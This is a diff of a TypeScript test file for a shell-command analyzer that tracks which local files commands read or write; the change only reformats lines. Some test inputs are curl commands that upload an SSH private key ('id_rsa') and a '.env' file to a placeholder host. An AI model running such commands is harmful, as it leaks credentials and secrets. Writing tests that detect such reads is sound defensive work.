@@ -11,7 +11,12 @@ function files(command: string): { reads: string[]; writes: string[]; links: str
   const [cmd] = analyzeCommand(command).commands;
   if (cmd === undefined) throw new Error(command);
   const f = programFiles(cmd);
-  return { reads: f.reads.map((r) => r.value), writes: f.writes.map((w) => w.value), links: f.links.map((l) => l.value), hidden: f.hiddenWrites };
+  return {
+    reads: f.reads.map((r) => r.value),
+    writes: f.writes.map((w) => w.value),
+    links: f.links.map((l) => l.value),
+    hidden: f.hiddenWrites,
+  };
 }
 
 describe('copying, moving, linking', () => {
@@ -83,7 +88,9 @@ describe('network programs read and write local files', () => {
     expect(files('curl -O https://example.com/a/tool.sh')).toMatchObject({ writes: ['tool.sh'] });
     expect(files('curl --output-dir dl -O https://e.com/f.tgz')).toMatchObject({ writes: ['dl', 'dl/f.tgz'] });
     expect(files('curl -T report.txt https://x')).toMatchObject({ reads: ['report.txt'] });
-    expect(files('curl -d @body.json -F "up=@id_rsa;type=text/plain" -F "n=<notes" https://x')).toMatchObject({ reads: ['body.json', 'id_rsa', 'notes'] });
+    expect(files('curl -d @body.json -F "up=@id_rsa;type=text/plain" -F "n=<notes" https://x')).toMatchObject({
+      reads: ['body.json', 'id_rsa', 'notes'],
+    });
     expect(files('curl --data-urlencode "msg@.env" https://x')).toMatchObject({ reads: ['.env'] });
     expect(files('curl -d "a=1" https://x')).toMatchObject({ reads: [], writes: [] });
     expect(files('curl -K cfg https://x').hidden).not.toBeNull();
